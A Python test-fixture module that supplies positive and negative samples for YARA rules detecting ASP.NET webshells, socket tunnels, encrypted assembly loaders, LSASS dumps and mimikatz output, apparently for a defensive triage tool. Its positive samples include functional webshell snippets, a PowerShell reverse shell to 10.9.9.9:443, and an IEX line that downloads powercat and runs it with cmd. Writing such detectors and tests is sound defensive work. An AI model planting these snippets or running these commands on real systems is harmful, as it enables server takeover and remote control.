"""Positive and negative samples for every rule in signatures/yara, and small synthetic files for the tests.

All samples are written here by hand: inert text that has the shape of the thing a rule looks for, not copies
of real malware. Keys are the rules' ``id`` meta values; every rule must have at least one of each.
"""

from __future__ import annotations

import base64

from triage.testing.volume import OAB_SHELL, minidump_bytes


def _pe(*chunks: bytes) -> bytes:
    """Bytes that start like a PE file (MZ) with the given chunks spread through it."""
    body = b"MZ\x90\x00" + bytes(60)
    for c in chunks:
        body += bytes(32) + c
    return body + bytes(64)


def _mdmp(*wide: str) -> bytes:
    """A minidump header followed by UTF-16 module paths."""
    return minidump_bytes(256) + b"".join(s.encode("utf-16-le") + b"\x00\x00" for s in wide)


def _ps_encoded(script: str) -> bytes:
    return b"powershell.exe -nop -w hidden -e " + base64.b64encode(script.encode("utf-16-le"))


STOCK_PAGE = b"""<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.Clients.Owa.Core.OwaPage" %>
<%@ Import Namespace="System.Web" %>
<!DOCTYPE html>
<html><head><title>Outlook</title>
<script type="text/javascript">
function clkExp() { var x = eval("(" + document.forms[0].elements.length + ")"); return x > 0; }
</script></head>
<body>
<form action="/owa/auth.owa" method="post" name="logonForm">
<% if (Request.QueryString["reason"] == "2") { %>
<div class="signInError">The user name or password is wrong.</div><% } %>
<input type="text" name="username" /><input type="password" name="password" />
<input type="submit" value="sign in" onclick="clkLgn()" />
</form>
<% Response.Write(Server.HtmlEncode(Request.ServerVariables["SERVER_NAME"])); %>
</body></html>
"""

STOCK_HANDLER = b"""<%@ WebHandler Language="C#" Class="Health" %>
using System.Web;
public class Health : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        context.Response.ContentType = "application/json";
        context.Response.Write("{\\"status\\":\\"ok\\",\\"server\\":\\"" + context.Server.MachineName + "\\"}");
    }
    public bool IsReusable { get { return true; } }
}
"""

TIMEOUT_PAGE = b"""<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="TimeoutLogoff.aspx.cs"
    Inherits="Microsoft.Exchange.Management.ControlPanel.TimeoutLogoff" %>
<html><body><div><%= Strings.TimeoutLogoffMessage %></div>
<script>window.setTimeout(function(){ window.location = "/ecp/"; }, 3000);</script></body></html>
"""

IISSTART = b"<html><body>IIS</body></html>\r\n"
WEB_CONFIG = b"""<?xml version="1.0" encoding="utf-8"?>
<configuration><system.web><compilation debug="false" targetFramework="4.8" /></system.web></configuration>
"""

BENIGN_FILES = {
    "iisstart.htm": IISSTART,
    "logon.aspx": STOCK_PAGE,
    "TimeoutLogoff.aspx": TIMEOUT_PAGE,
    "health.ashx": STOCK_HANDLER,
    "web.config": WEB_CONFIG,
}

REGEORG_LIKE = b"""<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<%
    string op = Request.Headers.Get("X-CMD");
    if (op == "CONNECT") {
        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        var ip = IPAddress.Parse(Request.Headers.Get("X-TARGET"));
        s.Connect(new IPEndPoint(ip, int.Parse(Request.Headers.Get("X-PORT"))));
        Session.Add("sock", s);
        Response.AddHeader("X-STATUS", "OK");
    } else if (op == "FORWARD") {
        Socket s = (Socket)Session["sock"];
        byte[] buf = new byte[Request.ContentLength];
        Request.InputStream.Read(buf, 0, buf.Length);
        s.Send(buf);
    }
%>
"""

TUNNA_LIKE = b"""<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    TcpClient c = new TcpClient(Request.QueryString["ip"], int.Parse(Request.QueryString["port"]));
    Session["conn"] = c;
    byte[] data = Request.BinaryRead(Request.TotalBytes);
    c.GetStream().Write(data, 0, data.Length);
    byte[] back = new byte[8192]; int n = c.GetStream().Read(back, 0, back.Length);
    Response.OutputStream.Write(back, 0, n);
}
</script>
"""

AES_LOADER = b"""<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%
Session.Add("kk", "0123456789abcdef");
byte[] key = Encoding.Default.GetBytes(Session[0] + ""), body = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key)
    .TransformFinalBlock(body, 0, body.Length)).CreateInstance("P").Equals(this);
%>"""

XOR_LOADER = b"""<%@ Page Language="C#" %><script runat="server">
static byte[] Unmask(byte[] data, byte[] key) {
    for (int i = 0; i < data.Length; i++) { data[i] = (byte)(data[i] ^ key[i % 16]); }
    return data;
}
void Page_Load(object s, EventArgs e) {
    byte[] raw = Unmask(Convert.FromBase64String(Context.Request["pw"]), Encoding.ASCII.GetBytes("3c6e0b8a9c15224a"));
    Assembly.Load(raw).CreateInstance("LY").Equals(Context);
}
</script>"""

CMD_PAGE = b"""<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string Run(string arg) {
    ProcessStartInfo si = new ProcessStartInfo("cmd.exe", "/c " + arg);
    si.RedirectStandardOutput = true; si.UseShellExecute = false;
    return Process.Start(si).StandardOutput.ReadToEnd();
}
</script>
<form runat="server"><asp:TextBox id="c" runat="server" /></form>
"""

VB_CMD_PAGE = b"""<%@ Page Language="VB" %>
<script runat="server">
Sub Go(Src As Object, E As EventArgs)
  Dim p As New Process()
  p.StartInfo.FileName = "c:\\windows\\system32\\cmd.exe"
  p.StartInfo.Arguments = "/c " & box.Text
  p.Start()
End Sub
</script>
"""

SAMPLES: dict[str, dict[str, list[bytes]]] = {
    "TRIAGE-YARA-001": {
        "positive": [
            b'GIF89a\r\n<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>',
            b'<script language="JScript" runat="server">function Page_Load(){eval(Request["k1"],"unsafe");}</script>',
            b"<%@ Page Language=\"JScript\"%><% eval(Request.Form['x'], 'unsafe'); %>",
        ],
        "negative": [
            b'<%@ Page Language="JScript"%><% var n = eval("1+1"); Response.Write(Request["q"]); %>',
            b'<script>var unsafe = "unsafe"; eval(localStorage.getItem("x"));</script>',
        ],
    },
    "TRIAGE-YARA-002": {
        "positive": [
            b'<%@ Page Language="C#"%><%if(Request.Files.Count!=0){Request.Files[0].SaveAs(Server.MapPath("./")'
            b'+Request.Form["n"]);}%>',
            b'<%@ Page Language="C#"%><% new System.IO.StreamWriter(Request.Form["f"]).Write(Request.Form["c"]); %>',
            b'<%@ Page Language="C#"%><%System.Reflection.Assembly.Load(Request.BinaryRead(int.Parse('
            b'Request.Cookies["p"].Value))).CreateInstance("c");%>',
        ],
        "negative": [
            b'<%@ Page Language="C#"%><% var f = Request.Files[0]; f.SaveAs(Server.MapPath("~/uploads/") + '
            b"System.IO.Path.GetFileName(f.FileName)); %>",
            b'<%@ Page Language="C#"%><% using (var w = new System.IO.StreamWriter(Server.MapPath("~/log.txt"))) '
            b"{ w.Write(DateTime.Now); } %>",
        ],
    },
    "TRIAGE-YARA-003": {
        "positive": [
            b'<%execute(unescape("eval%20request%28%22x%22%29"))%>',
            b'<%eval request("pass")%>',
            b'<% ExecuteGlobal(Request.Form("c")) %>',
        ],
        "negative": [
            b'<% Response.Write(Server.HTMLEncode(Request("name"))) %>',
            b'<% Execute("Sub Hello : Response.Write(""hi"") : End Sub") : Hello %>',
        ],
    },
    "TRIAGE-YARA-010": {
        "positive": [
            OAB_SHELL.encode(),
            b"RunspaceId                      : 2a3c\r\nPollInterval                    : 480\r\n"
            b'ExternalUrl                     : http://f/<script language="JScript" runat="server">function '
            b'Page_Load(){eval(Request["q7"],"unsafe");}</script>\r\nRequireSSL                      : False\r\n',
        ],
        "negative": [
            b"OfflineAddressBook\r\nName                            : OAB (Default Web Site)\r\n"
            b"ExternalUrl                     : https://mail.corp.example/OAB\r\n"
            b"InternalUrl                     : https://exch01.corp.example/OAB\r\nPollInterval : 480\r\n",
            b'<%@ Page Language="C#"%><script runat="server">void Page_Load(){}</script>',
        ],
    },
    "TRIAGE-YARA-020": {
        "positive": [REGEORG_LIKE, TUNNA_LIKE],
        "negative": [
            b'<%@ Page Language="C#"%><% var c = new System.Net.Sockets.TcpClient("smtp.corp.example", 25); '
            b"Response.Write(c.Connected); c.Close(); %>",
            b"using System.Net.Sockets; class P { void M() { var s = new Socket(AddressFamily.InterNetwork, "
            b'SocketType.Stream, ProtocolType.Tcp); var x = Request.InputStream; Session["a"] = s; } }',
        ],
    },
    "TRIAGE-YARA-021": {
        "positive": [CMD_PAGE, VB_CMD_PAGE],
        "negative": [
            b'<%@ Page Language="C#" %><% Response.Write(System.Diagnostics.Process.GetCurrentProcess().Id); %>',
            b'class Tool { void Run() { var si = new ProcessStartInfo("cmd.exe"); si.RedirectStandardOutput = '
            b"true; Process.Start(si); } }",
        ],
    },
    "TRIAGE-YARA-022": {
        "positive": [
            b'<%@ Page Language="C#"%><script runat="server">public string brand="ASPXSpy";</script>'
            b'<asp:LinkButton ID="Bin_Listdir" runat="server"/><asp:LinkButton ID="Bin_Regread" runat="server"/>',
            b'case "Bin_Listdir": break; case "Bin_Createfile": break; case "Bin_Editfile": break; '
            b'case "Bin_Regread": break;',
        ],
        "negative": [
            b'<asp:Button ID="Bin_Button" runat="server" Text="Go" />',
            b"Incident note: AspxSpy (ASPXSpy) was found on another host; see Bin_Listdir in the report.",
        ],
    },
    "TRIAGE-YARA-030": {
        "positive": [AES_LOADER, XOR_LOADER],
        "negative": [
            b'<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load("System.Web"); '
            b'Response.Write(a.FullName + Request["x"]); %>',
            b'<%@ Page Language="C#"%><% var d = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor();'
            b' var v = Request.Cookies["session"]; %>',
        ],
    },
    "TRIAGE-YARA-004": {
        "positive": [
            b'<%@ Page Language="JScript"%><% eval (  request . item ["k"] ) %>',
            b'<%\r\nExecute Request.Form("c")\r\n%>',
            b'<script runat="server" language="JScript">function Page_Load(){EVAL(Request["q"]);}</script>',
        ],
        "negative": [
            b'<%@ Page Language="JScript"%><% var x = eval("2*3"); Response.Write(Request["q"]); %>',
            b"<script>document.x.eval(request('y'));</script> client-side only, no server marker",
        ],
    },
    "TRIAGE-YARA-005": {
        "positive": [
            b'<%@ Page Language="C#"%><% string c = Request.Form["c"]; Response.Write(Microsoft.JScript.Eval.'
            b"JScriptEvaluate(c, Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>",
        ],
        "negative": [
            b'<%@ Page Language="C#"%><% var e = Microsoft.JScript.Vsa.VsaEngine.CreateEngine(); '
            b'Response.Write(Microsoft.JScript.Eval.JScriptEvaluate("1+1", e)); %>',
        ],
    },
    "TRIAGE-YARA-023": {
        "positive": [
            b'<%@ Page Language="C#"%><script runat="server">void Go(){ var r = RunspaceFactory.CreateRunspace(); '
            b"r.Open(); var p = r.CreatePipeline(); p.Commands.AddScript(box.Text); p.Invoke(); }</script>",
            b'<% @ WebHandler Language="C#" Class="P" %> using (var ps = PowerShell.Create()) { ps.AddScript(s); }',
        ],
        "negative": [
            b"$rs = [RunspaceFactory]::CreateRunspace(); $p = $rs.CreatePipeline(); $p.Commands.AddScript($s)",
        ],
    },
    "TRIAGE-YARA-031": {
        "positive": [
            b'<%@ Page Language="C#"%><% var m = typeof(System.Reflection.Assembly).GetMethod("Load", new Type[]'
            b"{typeof(byte[])}); var a = m.Invoke(null, new object[]{ Request.BinaryRead(Request.ContentLength) }); %>",
        ],
        "negative": [
            b'<%@ Page Language="C#"%><% var m = typeof(Helper).GetMethod("Load"); m.Invoke(null, null); %>',
            b'class X { void M() { var m = typeof(Assembly).GetMethod("Load"); m.Invoke(null, Request.Form["x"]); } }',
        ],
    },
    "TRIAGE-YARA-071": {
        "positive": [
            _pe(b"App_Web_k2l9m0q1", b"System.Web.UI.Page", b"get_Request", b"get_Form", b"ProcessStartInfo"),
            _pe(b"App_Web_q8r7s6t5", b"System.Web", b"get_Request", b"GetMethod", b"CreateInstance"),
        ],
        "negative": [
            _pe(b"App_Web_stock0001", b"System.Web.UI.Page", b"get_Request", b"get_QueryString", b"HtmlEncode"),
            _pe(b"MyTool", b"System.Web", b"get_Request", b"ProcessStartInfo"),
        ],
    },
    "TRIAGE-YARA-080": {
        "positive": [
            b'<configuration><system.webServer><handlers><add name="w" path="*.config" verb="*" modules="IsapiModule" '
            b'scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" /></handlers></system.webServer></configuration>',
            b'<configuration><system.web><compilation><buildProviders><add extension=".jpg" '
            b'type="System.Web.Compilation.PageBuildProvider" /></buildProviders></compilation></system.web>'
            b"</configuration>",
        ],
        "negative": [
            b'<configuration><system.webServer><handlers><add name="ASPClassic" path="*.asp" verb="*" '
            b'modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" /></handlers>'
            b"</system.webServer></configuration>",
            b'<configuration><system.web><httpHandlers><add path="*.axd" verb="*" '
            b'type="System.Web.Handlers.ScriptResourceHandler" /></httpHandlers></system.web></configuration>',
        ],
    },
    "TRIAGE-YARA-081": {
        "positive": [
            b"<configuration></configuration>\r\n<!-- <% Response.Write(1) : Execute(Request(\"c\")) %> -->",
        ],
        "negative": [
            b'<configuration><appSettings><add key="pct" value="100%" /><add key="tag" value="<b>" />'
            b"</appSettings></configuration>",
        ],
    },
    "TRIAGE-YARA-040": {
        "positive": [
            _mdmp(r"C:\Windows\System32\lsass.exe", r"C:\Windows\System32\lsasrv.dll"),
            _mdmp(r"C:\Windows\System32\lsass.exe", r"C:\Windows\System32\wdigest.DLL"),
        ],
        "negative": [
            minidump_bytes(1024),
            _mdmp(r"C:\Windows\System32\lsass.exe"),
            b"Sysmon: TargetImage C:\\Windows\\System32\\lsass.exe " + "lsasrv.dll".encode("utf-16-le"),
        ],
    },
    "TRIAGE-YARA-050": {
        "positive": [
            b"$client = New-Object System.Net.Sockets.TCPClient('10.9.9.9',443);$stream = $client.GetStream();"
            b"[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0)"
            b"{$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
            b"$sendback = (iex $data 2>&1 | Out-String )}",
            _ps_encoded("$c = New-Object Net.Sockets.TCPClient('10.9.9.9',443);$s=$c.GetStream()"),
            b"function Invoke-PowerShellTcp { [CmdletBinding()] Param([String]$IPAddress) }",
        ],
        "negative": [
            b"$c = New-Object System.Net.Sockets.TcpClient('mail.corp.example', 25); $c.GetStream(); $c.Close()",
            b"Invoke-WebRequest -Uri https://corp.example/health -UseBasicParsing",
        ],
    },
    "TRIAGE-YARA-051": {
        "positive": [
            b"IEX (New-Object System.Net.Webclient).DownloadString('http://10.9.9.9/powercat.ps1');"
            b"powercat -c 10.9.9.9 -p 443 -e cmd",
            b"function powercat\n{\n param($c, $l, $p)\n}\nfunction Setup_TCP\n{\n param($FuncVars)\n}\n",
        ],
        "negative": [
            b"Do not run powercat.ps1 on production servers.",
            b"function powercatalog { Get-ChildItem }",
        ],
    },
    "TRIAGE-YARA-060": {
        "positive": [
            b"  .#####.   mimikatz 2.2.0 (x64)\r\nmimikatz # privilege::debug\r\nmimikatz # sekurlsa::logonpasswords",
            "gentilkiwi\x00lsadump::sam\x00".encode("utf-16-le"),
            b"privilege::debug token::elevate lsadump::secrets",
        ],
        "negative": [
            b"2021-03-04 Defender: HackTool:Win32/Mimikatz quarantined C:\\Users\\Public\\m.exe",
            b"see sekurlsa:: in the manual",
        ],
    },
    "TRIAGE-YARA-070": {
        "positive": [
            _pe(b"App_Web_x1y2z3ab.dll", b"Microsoft.JScript", b"JScriptEvaluate", "unsafe".encode("utf-16-le")),
            _pe(b"App_Web_k2l9m0q1", b"ProcessStartInfo", b"set_RedirectStandardOutput", b"set_FileName"),
            _pe(b"App_Web_aaaabbbb", b"System.Reflection.Assembly", b"BinaryRead", b"CreateDecryptor"),
        ],
        "negative": [
            _pe(b"App_Web_stock123.dll", b"Page_Load", b"System.Web.UI.Page", b"get_Request"),
            b"App_Web_x1y2z3ab.dll JScriptEvaluate " + "unsafe".encode("utf-16-le"),
        ],
    },
}

MINIDUMP_LSASS = SAMPLES["TRIAGE-YARA-040"]["positive"][0]
APPWEB_SHELL = SAMPLES["TRIAGE-YARA-070"]["positive"][0]

# an obfuscated page: a packed payload in a base64 string and a command word built from character codes
OBFUSCATED_PAGE = (
    b'<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
    b'  string p = "'
    + base64.b64encode(bytes((i * 73 + 41) % 256 for i in range(3000)))
    + b'";\r\n  string w = ""'
    + b"".join(b" + (char)%d" % c for c in b"cmd.exe /c whoami")
    + b";\r\n}\r\n</script>\r\n"
)

__all__ = [
    "APPWEB_SHELL",
    "BENIGN_FILES",
    "MINIDUMP_LSASS",
    "OBFUSCATED_PAGE",
    "SAMPLES",
    "STOCK_HANDLER",
    "STOCK_PAGE",
]
